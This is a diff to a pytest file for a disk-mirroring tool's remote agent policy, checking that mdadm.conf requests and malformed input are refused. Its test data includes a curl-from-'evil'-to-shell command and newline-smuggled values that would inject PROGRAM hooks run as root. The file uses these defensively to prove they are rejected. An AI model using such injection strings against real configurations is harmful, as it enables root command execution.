@@ -21,7 +21,6 @@ import pytest
 from remirror.agent import policy
 from remirror.agent.policy import Refused, check_request
 from remirror.errors import EXIT_BAD_INPUT
-from remirror.facts import parsers
 from remirror.facts.site import SiteFacts
 from remirror.plan import Action, make_plan, make_teardown
 from remirror.profile import Profile, parse_profile
@@ -557,37 +556,32 @@ def test_a_request_is_refused_whole_before_any_of_it_runs() -> None:
     assert "/dev/sda" in refusal(run(good, {"kind": "zero_head", "device": "/dev/sda"}))
 
 
-def test_mdadm_conf_takes_only_the_sites_own_arrays_and_the_lines_it_has(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    conf = tmp_path / "mdadm.conf"
-    kept = "ARRAY /dev/md/old metadata=1.2 UUID=0a0a0a0a:0a0a0a0a:0a0a0a0a:0a0a0a0a name=old"
-    conf.write_text(f"HOMEHOST <system>\nMAILADDR root\n{kept}\n")
-    monkeypatch.setattr(parsers, "MDADM_CONF", str(conf))
-    monkeypatch.setattr(policy, "lines_of", LINES_OF)
+def test_mdadm_conf_takes_only_the_sites_own_arrays_once_each() -> None:
     uuid = CREATE["uuid"]
     m0 = {"uuid": uuid, "device": "/dev/md/m0", "metadata": "1.2", "name": "m0"}
-    old = {
-        "uuid": "0a0a0a0a:0a0a0a0a:0a0a0a0a:0a0a0a0a",
-        "device": "/dev/md/old",
-        "metadata": "1.2",
-        "name": "old",
-    }
-    check_request(run({"kind": "mdadm_conf", "arrays": [m0, old, {"uuid": uuid}]}), SCOPE)  # old: as it is
+    check_request(run({"kind": "mdadm_conf", "arrays": [m0]}), SCOPE)
+    check_request(run({"kind": "mdadm_conf", "arrays": [{"uuid": uuid}]}), SCOPE)
     # `<ignore>` of another array (the host's own system array's: boot would not assemble it).
-    assert "<ignore> of 11111111:11111111:11111111:11111111, not an array of" in refusal(
-        run({"kind": "mdadm_conf", "arrays": [{"uuid": "11111111:11111111:11111111:11111111"}]})
+    other = "11111111:11111111:11111111:11111111"
+    assert f"<ignore> of {other}, not an array of" in refusal(
+        run({"kind": "mdadm_conf", "arrays": [{"uuid": other}]})
     )
     assert "is not mirror m0's array here" in refusal(
-        run({"kind": "mdadm_conf", "arrays": [{**m0, "uuid": "11111111:11111111:11111111:11111111"}]})
+        run({"kind": "mdadm_conf", "arrays": [{**m0, "uuid": other}]})
     )
-    # No line of the sender's text: a PROGRAM hook (mdadm --monitor would run it as root) has no field.
+    # One array in two lines: mdadm assembles none of them (the host's own arrays either).
+    assert f"{uuid} is in two lines" in refusal(run({"kind": "mdadm_conf", "arrays": [m0, {"uuid": uuid}]}))
+    # No line of the sender's text: a PROGRAM hook (mdadm --monitor would run it as root) has no field,
+    # and a device is /dev/md/NAME, with no profile too (where any device is in scope).
     assert "program is not a field of it" in refusal(
         run({"kind": "mdadm_conf", "arrays": [{**m0, "program": "/bin/sh -c 'curl evil | sh'"}]})
     )
-    assert "is not an md array UUID" in refusal(
-        run({"kind": "mdadm_conf", "arrays": [{"uuid": "1:2:3:4\nPROGRAM /bin/sh"}]})
-    )
+    for scope in (SCOPE, None):
+        assert "is not an md array UUID" in refusal(
+            run({"kind": "mdadm_conf", "arrays": [{"uuid": "1:2:3:4\nPROGRAM /bin/sh"}]}), scope
+        )
+        evil = {**m0, "device": "/dev/md/x\nPROGRAM /usr/bin/evil\nDEVICE /nonexistent"}
+        assert "is not /dev/md/NAME" in refusal(run({"kind": "mdadm_conf", "arrays": [evil]}), scope)
 
 
 def test_a_site_without_profiles_still_gets_the_closed_forms_with_any_block_device() -> None:
@@ -707,7 +701,9 @@ def _agent(args: list[str], stdin: str, **env: str) -> subprocess.CompletedProce
 
 def test_over_ssh_a_line_that_breaks_the_reader_is_refused_and_the_agent_answers_on() -> None:
     # Nested past Python's stack, not UTF-8: refused and logged, not the agent's end.
-    stdin = b"[" * 100_000 + b"\n\xff\n" + json.dumps({"op": "sink", "data": "x"}).encode() + b"\n"
+    # The last request is refused too: answered whatever stdin's end does (a request the agent
+    # runs when stdin closes ends it, by design: its controller went).
+    stdin = b"[" * 100_000 + b"\n\xff\n" + json.dumps({"op": "exec"}).encode() + b"\n"
     done = subprocess.run(
         [sys.executable, "-m", "remirror", "agent", "--serve"],
         input=stdin,
@@ -718,7 +714,7 @@ def test_over_ssh_a_line_that_breaks_the_reader_is_refused_and_the_agent_answers
     answers = [json.loads(line) for line in done.stdout.decode().splitlines()]
     assert answers[0]["error"] == "the request is not JSON: RecursionError"
     assert answers[1]["error"].startswith("the request is not JSON")
-    assert answers[2]["received"] == 1
+    assert answers[2]["refused"] is True  # the agent read on and checked it
     assert done.stderr.decode().count("refused: the request is not JSON") == 2
 
 
